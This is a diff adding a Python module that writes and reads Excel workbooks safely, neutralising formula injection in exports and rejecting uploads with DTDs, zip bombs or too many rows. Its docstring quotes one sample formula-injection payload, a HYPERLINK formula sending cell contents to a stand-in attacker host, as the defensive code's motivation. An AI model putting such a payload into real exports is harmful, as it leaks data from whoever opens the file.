@@ -1,0 +1,249 @@
+"""Every .xlsx the system writes or reads goes through here (openpyxl).
+
+Writing: user text is stored as text. openpyxl turns any string starting with ``=`` into a formula,
+so a course named ``=HYPERLINK("http://attacker.example/?x="&A1,"…")`` became a live link in an
+admin's Excel. Following OWASP's CSV-injection advice, a string starting with ``=``, ``+``, ``-``,
+``@``, a tab or a CR is written as a string cell with Excel's quote prefix (the cell shows and
+keeps the exact text, and stays text when a user edits it); no string is ever a formula. Characters
+an .xlsx cannot hold (C0 controls) are dropped instead of failing the export.
+
+Reading uploads (``read_upload``): the workbook is parsed in a worker process (never on the event
+loop, nor in a thread that shares its GIL), refused with a 422 when it is not a readable .xlsx, has no sheet, declares a DTD or entities
+(checked with defusedxml; openpyxl parses with it too once it is installed) or unpacks to more than
+``MAX_UNPACKED_BYTES``; every row after the header counts toward the row limit, blank ones too, and
+reading stops at the limit.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import functools
+import io
+import multiprocessing
+import zipfile
+from collections.abc import Iterable, Sequence
+from concurrent.futures import ProcessPoolExecutor
+from concurrent.futures.process import BrokenProcessPool
+from dataclasses import dataclass
+from datetime import date, datetime, time
+from typing import Any
+from xml.etree.ElementTree import ParseError
+
+from defusedxml import DefusedXmlException
+from defusedxml.ElementTree import iterparse
+from openpyxl import Workbook, load_workbook
+from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
+from openpyxl.styles import Font
+
+from jijiao_kit.errors import InvalidInput
+
+XLSX_MEDIA_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+#: Leading characters that make a spreadsheet (or a CSV opened in one) evaluate a cell.
+FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+#: Columns read from an upload (a forged dimension cannot make each row 16,384 cells wide).
+MAX_COLUMNS = 64
+#: Unpacked size of all parts of an uploaded workbook (a small zip can unpack to gigabytes).
+MAX_UNPACKED_BYTES = 64 * 1024 * 1024
+
+
+@dataclass(frozen=True)
+class SheetSpec:
+    title: str
+    headers: Sequence[str]
+    rows: Iterable[Sequence[Any]]
+    widths: bool = False  # size columns to the headers
+
+
+def _plain(value: Any) -> Any:
+    if value is None:
+        return None
+    if isinstance(value, bool | int | float):
+        return value
+    if isinstance(value, datetime):
+        if value.tzinfo is not None:
+            return value.replace(tzinfo=None)  # Excel has no time zones (callers pass local or UTC)
+        return value
+    if isinstance(value, date | time):
+        return value
+    return ILLEGAL_CHARACTERS_RE.sub("", str(value))
+
+
+def write_row(sheet: Any, values: Sequence[Any], *, bold: bool = False) -> None:
+    """Append one row; strings are always string cells, risky ones with the quote prefix."""
+    plain = [_plain(value) for value in values]
+    sheet.append(plain)
+    if not plain:
+        return
+    row = sheet.max_row
+    for cell in next(sheet.iter_rows(min_row=row, max_row=row, max_col=len(plain))):
+        if isinstance(cell.value, str):
+            cell.data_type = "s"  # never "f", whatever the text starts with
+            if cell.value.startswith(FORMULA_TRIGGERS):
+                cell.quotePrefix = True
+        if bold:
+            cell.font = Font(bold=True)
+
+
+def workbook_bytes(sheets: Sequence[SheetSpec]) -> bytes:
+    """One workbook of one or more sheets, each a bold header row then its rows."""
+    workbook = Workbook()
+    first = True
+    for spec in sheets:
+        sheet = workbook.active if first else workbook.create_sheet()
+        assert sheet is not None
+        first = False
+        sheet.title = spec.title[:31]
+        write_row(sheet, list(spec.headers), bold=True)
+        for values in spec.rows:
+            write_row(sheet, list(values))
+        if spec.widths:
+            for index, header in enumerate(spec.headers, start=1):
+                letter = sheet.cell(row=1, column=index).column_letter
+                sheet.column_dimensions[letter].width = max(10, len(str(header)) * 2 + 2)
+    buffer = io.BytesIO()
+    workbook.save(buffer)
+    return buffer.getvalue()
+
+
+def rows_xlsx(title: str, headers: Sequence[str], rows: Iterable[Sequence[Any]], *, widths: bool = False) -> bytes:
+    """A one-sheet workbook: a header row, then the rows."""
+    return workbook_bytes([SheetSpec(title, headers, rows, widths)])
+
+
+# --- reading uploads ------------------------------------------------------------------------------
+
+
+class WorkbookRejected(InvalidInput):
+    """An uploaded workbook that cannot be read safely (422)."""
+
+    code, title = "invalid_workbook", "文件不是有效的 Excel(.xlsx)表格"
+
+
+class TooManyRows(WorkbookRejected):
+    code, title = "too_many_rows", "行数超过限制"
+
+
+@dataclass(frozen=True)
+class UploadedSheet:
+    header: list[Any]
+    rows: list[tuple[int, list[Any]]]  # (1-based row number as Excel shows it, values); blank rows left out
+
+
+def _check_parts(archive: zipfile.ZipFile, max_rows: int) -> None:
+    members = archive.infolist()
+    if sum(info.file_size for info in members) > MAX_UNPACKED_BYTES:
+        raise WorkbookRejected(f"The workbook unpacks to more than {MAX_UNPACKED_BYTES} bytes.")
+    for info in members:
+        if not info.filename.endswith((".xml", ".rels")):
+            continue
+        is_sheet = info.filename.startswith("xl/worksheets/")
+        with archive.open(info) as part:
+            try:
+                # The prolog (where a DTD or entity must be) comes before the root's start event. In a
+                # sheet, the rows are counted as they stream by (openpyxl's read-only loader scans a
+                # sheet without a <dimension> to its end before the first row is handed out).
+                last = 0
+                for event, element in iterparse(part, events=("start", "end"), forbid_dtd=True):
+                    if not is_sheet:
+                        break
+                    if element.tag.rpartition("}")[2] == "row":
+                        if event == "start":
+                            last = _row_number(element.get("r"), last)
+                            if last - 1 > max_rows:  # after the header, every row counts, blank ones too
+                                raise TooManyRows(f"At most {max_rows} rows (blank rows included) per workbook.")
+                        else:
+                            element.clear()
+            except DefusedXmlException as exc:
+                raise WorkbookRejected(
+                    f"The workbook part {info.filename} declares a DTD or entities.",
+                    code="workbook_dtd_forbidden",
+                ) from exc
+            except ParseError as exc:
+                raise WorkbookRejected(f"The workbook part {info.filename} is not well-formed XML.") from exc
+
+
+def _row_number(number: str | None, last: int) -> int:
+    """A row's number: its ``r`` attribute (a sheet may skip rows: r="400001"), else the next one."""
+    try:
+        return max(int(number), last + 1) if number is not None else last + 1
+    except ValueError:
+        return last + 1
+
+
+def _is_blank(values: Sequence[Any]) -> bool:
+    return all(value is None or (isinstance(value, str) and not value.strip()) for value in values)
+
+
+def _trimmed(values: Sequence[Any]) -> list[Any]:
+    out = list(values)
+    while out and out[-1] is None:
+        out.pop()
+    return out
+
+
+def read_workbook(data: bytes, *, max_rows: int, max_columns: int = MAX_COLUMNS) -> UploadedSheet:
+    """The first sheet of an uploaded workbook (blocking: call ``read_upload`` from async code)."""
+    try:
+        archive = zipfile.ZipFile(io.BytesIO(data))
+    except (zipfile.BadZipFile, ValueError, OSError) as exc:
+        raise WorkbookRejected("The file is not an .xlsx workbook (not a zip archive).") from exc
+    with archive:
+        try:
+            _check_parts(archive, max_rows)
+        except (zipfile.BadZipFile, OSError, EOFError, RuntimeError, NotImplementedError) as exc:
+            raise WorkbookRejected("The workbook archive is damaged.") from exc
+    try:
+        workbook = load_workbook(io.BytesIO(data), read_only=True, data_only=True)
+    except WorkbookRejected:
+        raise
+    except Exception as exc:  # openpyxl raises many kinds (KeyError, ParseError, TypeError, ...)
+        raise WorkbookRejected("The file is not a readable .xlsx workbook.") from exc
+    try:
+        if not workbook.worksheets:
+            raise WorkbookRejected("The workbook has no sheet.", code="workbook_without_sheets")
+        sheet = workbook.worksheets[0]
+        # +2: the header row, and one row past the limit to notice it is exceeded.
+        declared = getattr(sheet, "max_column", None)
+        width = min(declared, max_columns) if isinstance(declared, int) and declared > 0 else max_columns
+        rows = sheet.iter_rows(max_row=max_rows + 2, max_col=width, values_only=True)
+        header = _trimmed(next(rows, ()))
+        out: list[tuple[int, list[Any]]] = []
+        for number, values in enumerate(rows, start=2):
+            if number - 1 > max_rows:  # every row after the header counts, blank ones too
+                raise TooManyRows(f"At most {max_rows} rows (blank rows included) per workbook.")
+            if not _is_blank(values):
+                out.append((number, _trimmed(values)))
+        return UploadedSheet(header, out)
+    except WorkbookRejected:
+        raise
+    except Exception as exc:
+        raise WorkbookRejected("The workbook's sheet cannot be read.") from exc
+    finally:
+        workbook.close()
+
+
+_pool: ProcessPoolExecutor | None = None
+
+
+def _parser_pool() -> ProcessPoolExecutor:
+    """One worker process per service process parses uploads: a thread would share the GIL (and the
+    garbage collector's full passes) with the event loop, and /healthz waited up to 0.8 s during a
+    5,000-row import. A forkserver child never inherits the API's threads or sockets."""
+    global _pool
+    if _pool is None:
+        context = multiprocessing.get_context("forkserver")
+        context.set_forkserver_preload([__name__])
+        _pool = ProcessPoolExecutor(max_workers=1, mp_context=context)
+    return _pool
+
+
+async def read_upload(data: bytes, *, max_rows: int, max_columns: int = MAX_COLUMNS) -> UploadedSheet:
+    """``read_workbook`` in a worker process, so the API keeps answering while a workbook is parsed."""
+    global _pool
+    loop = asyncio.get_running_loop()
+    call = functools.partial(read_workbook, data, max_rows=max_rows, max_columns=max_columns)
+    try:
+        return await loop.run_in_executor(_parser_pool(), call)
+    except BrokenProcessPool as exc:  # the parser died (e.g. out of memory): a fresh pool next time
+        _pool = None
+        raise WorkbookRejected("The workbook could not be read.", code="workbook_unreadable") from exc
